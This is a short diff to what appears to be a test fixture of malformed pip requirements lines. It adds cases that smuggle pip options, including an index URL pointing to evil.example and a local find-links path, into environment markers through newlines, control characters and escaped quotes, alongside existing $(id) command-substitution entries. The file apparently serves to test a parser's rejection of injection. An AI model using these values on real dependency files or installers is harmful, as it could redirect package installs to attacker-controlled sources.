@@ -69,6 +69,11 @@ LINES = [
     f"${{HOME}}==1.0 {HASH}",
     f"$(id)==1.0 {HASH}",
     f"evil==1.0; python_version > '3' @ file:///x {HASH}",
+    rf"evil==1.0; os_name == '\n--no-binary evil\n' {HASH}",
+    rf"evil==1.0; os_name == 'x\x0d--find-links /tmp' {HASH}",
+    rf"evil==1.0; os_name == '\x22\n--index-url http://evil.example/\nx==1; os_name == \x22' {HASH}",
+    rf"evil==1.0; os_name == '\N{{LINE SEPARATOR}}--pre' {HASH}",
+    rf"evil==1.0; os_name == 'x\\' {HASH}",
     "",
 ]
 
